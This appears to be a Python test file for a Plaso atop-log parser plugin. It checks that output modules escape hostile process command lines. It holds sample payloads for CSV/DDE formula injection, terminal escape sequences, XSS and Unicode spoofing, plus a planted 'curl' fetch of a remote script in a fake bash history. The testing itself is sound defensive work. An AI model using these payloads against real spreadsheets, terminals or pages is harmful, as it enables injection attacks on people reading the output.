"""Tests of the tools of Plaso with the package installed."""

import csv
import gzip
import io
import os
import re
import struct
import subprocess
import tempfile
import unittest
import zipfile

from plaso_atop import blocks
from plaso_atop import parser
from plaso_atop import rawlog

from tests.lib import end_to_end
from tests.lib import test_lib

# What a log can hold to harm the one who reads it.
HOSTILE_COMMAND_LINES = (
    b'=HYPERLINK("http://192.0.2.1/","click")',
    b"+1+cmd|' /C calc'!A0",
    b"-2+3",
    b"@SUM(1+1)",
    b"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m",
    b"first\nsecond\r\nthird\ttab",
    b"nul\x00hidden",
    b"comma, \"double\" 'single' ; | semicolon",
    b"evil\xe2\x80\xaetxt.exe \xe2\x80\x8bzero\xc2\xa0width",
    b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    bytes(range(128, 256)) + bytes(range(128, 255)),
    b"{user_identifier} {0} %s %n ${HOME} `id`",
    b"\xf0\x9f\x92\xa9 \xf3\xa0\x80\x81 tag \xef\xbf\xbe",
    b"literal \\x1b[31m \\u202e \\n",
    b"\x9b31mC1 control\x85next line \xc2\x9b31m \xe2\x80\xa8separator",
)

# All that need neither a server nor crash on any input, as kml does.
OUTPUT_MODULES = (
    "dynamic",
    "json",
    "json_line",
    "l2tcsv",
    "l2ttln",
    "tln",
    "rawpy",
    "xlsx",
)


def CreateHostileLog(data):
    """Replaces the command lines of the first processes of a log.

    Args:
      data (bytes): contents of the log.

    Returns:
      bytes: contents of the log with the first of its samples.
    """
    with tempfile.TemporaryFile() as file_object:
        file_object.write(data)
        log = rawlog.RawLog(file_object)
        sample = next(log.samples())
        tasks = bytearray(b"".join(sample.tasks_block.GetPieces(log.tstatlen)))
        cmdline = next(
            (offset, member.count)
            for name, offset, member in log.layout.tstat.Flatten()
            if name == "gen.cmdline"
        )
        processes = [
            position
            for position, task in zip(
                range(0, len(tasks), log.tstatlen), sample.tasks()
            )
            if task.isproc
        ]

    for position, command_line in zip(processes, HOSTILE_COMMAND_LINES):
        offset, size = cmdline
        tasks[position + offset : position + offset + size] = command_line.ljust(
            size, b"\x00"
        )[:size]

    # Times of the start: not set, before 1970, in the future, in the year 10000, and
    # the ends of what 64 bits can hold.
    btime = next(
        offset for name, offset, _ in log.layout.tstat.Flatten() if name == "gen.btime"
    )
    for position, value in zip(
        processes, (0, -1, 1 << 32, 253402300800, (1 << 63) - 1, -(1 << 63))
    ):
        struct.pack_into("<q", tasks, position + btime, value)

    compressed = blocks.zlib.compress(bytes(tasks))
    record = bytearray(data[sample.offset : sample.system_block.offset])
    struct.pack_into(
        "<I", record, log.layout.rawrecord.members["pcomplen"].offset, len(compressed)
    )
    return (
        data[: sample.offset]
        + bytes(record)
        + data[sample.system_block.offset : sample.system_block.end_offset]
        + compressed
        + data[sample.tasks_block.end_offset : sample.end_offset]
    )


class ImageTest(end_to_end.ToolsTestCase):
    """Tests with a disk image of a Linux server."""

    _OS_RELEASE = (
        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n'
        'NAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n'
    )
    _PASSWD = (
        "root:x:0:0:root:/root:/bin/bash\n"
        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
        "alice:x:1000:1000::/home/alice:/bin/bash\n"
        "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
    )

    @classmethod
    def setUpClass(cls):
        """Makes an image and extracts its events."""
        super().setUpClass()
        root = cls._GetPath("root")
        for directory in ("etc", "var/log/atop", "root", "usr/lib"):
            os.makedirs(os.path.join(root, directory))

        utmp_entry = struct.pack(
            "<hxxi32s4s32s256shhiii4i20x",
            7,
            812,
            b"pts/0",
            b"ts/0",
            b"alice",
            b"192.0.2.7",
            0,
            0,
            0,
            1795225000,
            0,
            0,
            0,
            0,
            0,
        )
        files = {
            "etc/hostname": b"bastion\n",
            "etc/os-release": cls._OS_RELEASE.encode(),
            "etc/passwd": cls._PASSWD.encode(),
            "root/.bash_history": b"#1795225105\ncurl -s http://192.0.2.66/x.sh\n",
            "var/log/auth.log": (
                b"2026-11-21T01:38:20.000000+00:00 bastion sshd[812]: Accepted "
                b"password for alice from 192.0.2.7 port 50122 ssh2\n" * 3
            ),
            "var/log/wtmp": utmp_entry * 2,
        }
        for name, log_name in (
            ("atop_20261120", "atop-2.7.1"),
            ("atop_20261121", "atop-2.12.1"),
            ("atop.log.2.gz", "atop-1.26"),
        ):
            with open(test_lib.GetTestFilePath([f"{log_name:s}.raw"]), "rb") as log:
                data = log.read()
            files[f"var/log/atop/{name:s}"] = (
                gzip.compress(data) if name.endswith(".gz") else data
            )

        for name, data in files.items():
            with open(os.path.join(root, name), "wb") as file_object:
                file_object.write(data)

        cls._image_path = cls._GetPath("image.raw")
        mke2fs = test_lib.FindProgram("mke2fs")
        subprocess.run(
            [mke2fs, "-q", "-t", "ext4", "-d", root, cls._image_path, "16M"],
            check=True,
        )
        cls._storage_path = cls._Extract(cls._image_path, "image.plaso")

    def testTimeline(self):
        """Tests that the events stand among those of other artifacts."""
        path = self._Output(
            self._storage_path,
            "dynamic",
            "--fields",
            "datetime,timestamp_desc,hostname,username,source,message,display_name",
        )
        with open(path, encoding="utf-8", newline="") as file_object:
            rows = list(csv.DictReader(file_object))

        for row in rows:
            self.assertNotIn("DEFAULT FORMATTER", row["message"])

        messages = [row["message"] for row in rows]
        for expected in (
            "Successful login of user: alice",
            "curl -s http://192.0.2.66",
            "Process: ",
        ):
            self.assertTrue(any(expected in message for message in messages), expected)
        self.assertTrue(any("pts/0" in message for message in messages))

        atop_rows = [row for row in rows if "/var/log/atop/" in row["display_name"]]
        processes = [row for row in atop_rows if row["message"].startswith("Process: ")]
        for name in ("atop_20261120", "atop_20261121", "atop.log.2.gz"):
            self.assertTrue(any(name in row["display_name"] for row in processes), name)
        for row in processes:
            self.assertIn(row["hostname"], ("bastion", "mail", "k8s-node-03"))

        usernames = {
            re.search(r" UID: (\d+)", row["message"])[1]: row["username"]
            for row in processes
            if "Container" not in row["message"]
        }
        self.assertEqual(usernames["0"], "root")
        self.assertEqual(usernames["33"], "www-data")
        self.assertEqual(usernames["1000"], "alice")
        self.assertEqual(usernames["65534"], "nobody")
        # No account has this identifier.
        self.assertEqual(usernames["1004"], "-")

    def testPreset(self):
        """Tests which parsers the default set and filter expressions run."""
        information = self._RunTool("pinfo", self._storage_path)
        parser_names = re.findall(r"^ *(\w+) : \d+$", information, re.MULTILINE)
        default_names = parser.AtopParser.GetPluginNames()
        for name in (*default_names, "bash_history", "utmp"):
            self.assertIn(name, parser_names)
        for name, _ in parser.AtopParser.GetPlugins():
            if name not in default_names:
                self.assertNotIn(name, parser_names)

    def testWarnings(self):
        """Tests that an image without damage gives no warnings of the parser."""
        information = self._RunTool(
            "pinfo", "--sections", "warnings", "-v", self._storage_path
        )
        self.assertNotIn("atop", information.replace("/atop/", ""))

    def testImageExport(self):
        """Tests that files are exported by their signature."""
        export_path = self._GetPath("export")
        self._RunQuietTool(
            "image_export",
            "-w",
            export_path,
            "--names",
            "atop_20261121",
            self._image_path,
        )
        with open(
            os.path.join(export_path, "var", "log", "atop", "atop_20261121"), "rb"
        ) as file_object:
            self.assertEqual(file_object.read(4), rawlog.MAGIC_LITTLE_ENDIAN)


class DamageTest(end_to_end.ToolsTestCase):
    """Tests of what the tools report for a damaged log."""

    def testDamage(self):
        """Tests a log with a sample of zeros and without its end."""
        whole_path = test_lib.GetTestFilePath(["atop-2.12.1.raw"])
        with open(whole_path, "rb") as file_object:
            data = bytearray(file_object.read())
            samples = list(rawlog.RawLog(file_object).samples())

        lost_sample, cut_sample = samples[2], samples[-1]
        size = lost_sample.end_offset - lost_sample.offset
        data[lost_sample.offset : lost_sample.end_offset] = bytes(size)
        # Nothing but the header of the last sample is left.
        end_offset = cut_sample.system_block.offset
        damaged_path = self._GetPath("damaged")
        with open(damaged_path, "wb") as file_object:
            file_object.write(data[:end_offset])

        whole_storage_path = self._Extract(whole_path, "whole.plaso")
        storage_path = self._Extract(damaged_path, "damaged.plaso")

        information = self._RunTool(
            "pinfo", "--sections", "warnings", "-v", storage_path
        )
        # It breaks long lines.
        text = re.sub(r"\n +: ", " ", information)
        cut_size = end_offset - cut_sample.offset
        for offset, damage_size in (
            (lost_sample.offset, size),
            (cut_sample.offset, cut_size),
        ):
            self.assertIn(f" at offset: 0x{offset:08x} of size: {damage_size:d}", text)
        self.assertEqual(text.count(" at offset: "), 2)

        lost_offsets = {lost_sample.offset, cut_sample.offset}
        messages = {
            event["offset"]: event["message"]
            for event in self._ReadEvents(whole_storage_path)
            if event["data_type"] == "linux:atop:system"
        }
        self.assertEqual(set(messages), {sample.offset for sample in samples})

        events = self._ReadEvents(storage_path)
        self.assertEqual(
            {
                event["offset"]: event["message"]
                for event in events
                if event["data_type"] == "linux:atop:system"
            },
            {
                offset: message
                for offset, message in messages.items()
                if offset not in lost_offsets
            },
        )
        self.assertEqual(
            {
                (event["offset"], event["size"])
                for event in events
                if event["data_type"] == "linux:atop:gap"
            },
            {(lost_sample.offset, size)},
        )


class FilterTest(end_to_end.ToolsTestCase):
    """Tests of parser filter expressions."""

    def _GetPlugins(self, *arguments):
        """Determines which plugins gave events.

        Args:
          arguments (list[str]): arguments of log2timeline.

        Returns:
          set[str]: parser chains.
        """
        name = f"{abs(hash(arguments)):d}.plaso"
        path = self._Extract(
            test_lib.GetTestFilePath(["atop-2.12.1.raw"]), name, *arguments
        )
        return {
            re.sub(r".*/", "", event["parser"])
            for event in self._ReadEvents(path)
            if event["data_type"].startswith("linux:atop:")
        }

    def testExpressions(self):
        """Tests filter expressions."""
        default_plugins = {"session", "process", "system", "network"}
        self.assertEqual(self._GetPlugins(), default_plugins)
        self.assertEqual(self._GetPlugins("--parsers", "linux"), default_plugins)
        self.assertEqual(self._GetPlugins("--parsers", "atop/process"), {"process"})
        self.assertEqual(
            self._GetPlugins("--parsers", "linux,!atop/system"),
            default_plugins - {"system"},
        )
        self.assertLess(default_plugins, self._GetPlugins("--parsers", "atop"))


class OutputTest(end_to_end.ToolsTestCase):
    """Tests of what the output modules make of hostile values."""

    @classmethod
    def setUpClass(cls):
        """Makes logs and extracts their events."""
        super().setUpClass()
        source = cls._GetPath("source")
        os.makedirs(source)
        with open(test_lib.GetTestFilePath(["atop-2.12.1.raw"]), "rb") as file_object:
            data = file_object.read()

        # Times before 1970, in the year 10000 and at the end of what 64 bits can hold,
        # of a sample without another one that knows better.
        first_sample = next(rawlog.RawLog(io.BytesIO(data)).samples())
        end_offset = first_sample.end_offset
        for index, curtime in enumerate((-1, 0, 253402300800, (1 << 62), -(1 << 63))):
            with open(os.path.join(source, f"time{index:d}"), "wb") as file_object:
                file_object.write(
                    data[:480] + struct.pack("<q", curtime) + data[488:end_offset]
                )

        with open(os.path.join(source, "hostile"), "wb") as file_object:
            file_object.write(CreateHostileLog(data))
        with open(os.path.join(source, "cut"), "wb") as file_object:
            file_object.write(data[:20000] + bytes(4096) + data[24096:-100])

        cls._storage_path = cls._Extract(source, "source.plaso", "--parsers", "atop")

    def _ReadText(self, module):
        """Reads the output of a module as text.

        Args:
          module (str): name of the output module.

        Returns:
          str: output.
        """
        path = self._Output(self._storage_path, module)
        if module != "xlsx":
            with open(path, encoding="utf-8", newline="") as file_object:
                return file_object.read()

        with zipfile.ZipFile(path) as zip_file:
            return "".join(
                zip_file.read(name).decode("utf-8")
                for name in zip_file.namelist()
                if "heet" in name or "Strings" in name
            )

    def testModules(self):
        """Tests that no module fails or passes on a character that does harm."""
        for module in OUTPUT_MODULES:
            text = self._ReadText(module)
            with self.subTest(module=module):
                self.assertIn("linux:atop" if module == "rawpy" else "Process", text)
                self.assertNotIn("DEFAULT FORMATTER", text)
                for character in text:
                    self.assertTrue(
                        character.isprintable() or character in " \n\r", repr(character)
                    )

    def testFormulas(self):
        """Tests that no field of a spreadsheet is a formula."""
        path = self._Output(self._storage_path, "dynamic")
        with open(path, encoding="utf-8", newline="") as file_object:
            for row in csv.reader(file_object):
                for field in row:
                    self.assertNotIn(field[:1], ("=", "+", "@", "\t"))

        self.assertNotIn("<f>", self._ReadText("xlsx"))

    def testText(self):
        """Tests what events hold of hostile command lines."""
        command_lines = {
            event.get("command_line")
            for event in self._ReadEvents(self._storage_path)
            if event["data_type"] == "linux:atop:process"
            and event["display_name"].endswith("hostile")
        }
        for expected in (
            '=HYPERLINK("http://192.0.2.1/","click")',
            "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred\\x1b[0m",
            "first\\x0asecond\\x0d\\x0athird\\x09tab",
            "nul",
            "evil\\u202etxt.exe \\u200bzero\\u00a0width",
            "".join(
                f"\\x{value:02x}" for value in [*range(128, 256), *range(128, 255)]
            ),
            "{user_identifier} {0} %s %n ${HOME} `id`",
            "literal \\x5cx1b[31m \\x5cu202e \\n",
            "\U0001f4a9 \\udb40\\udc01 tag \\ufffe",
            "\\x9b31mC1 control\\x85next line \\u009b31m \\u2028separator",
        ):
            self.assertIn(expected, command_lines)

    def testTimes(self):
        """Tests times that Plaso cannot show."""
        events = [
            event
            for event in self._ReadEvents(self._storage_path)
            if "time" in os.path.basename(event["display_name"])
            and event["data_type"] == "linux:atop:session"
            and event["timestamp_desc"] == "Start Time"
        ]
        starts = [
            event
            for event in self._ReadEvents(self._storage_path)
            if event["data_type"] == "linux:atop:process"
            and event["display_name"].endswith("hostile")
            and event["timestamp_desc"] == "Start Time"
        ]
        self.assertEqual(
            sorted(
                event["raw_start_time"] for event in starts if event["timestamp"] == 0
            ),
            [-(1 << 63), -1, 0, 253402300800, (1 << 63) - 1],
        )
        self.assertIn((1 << 32) * 1000000, [event["timestamp"] for event in starts])

        invalid = [event for event in events if event["timestamp"] == 0]
        self.assertEqual(len(invalid), 5)
        for event in events:
            self.assertLess(event["timestamp"], 253402300800 * 1000000)
            self.assertGreaterEqual(event["timestamp"], 0)


if __name__ == "__main__":
    unittest.main()
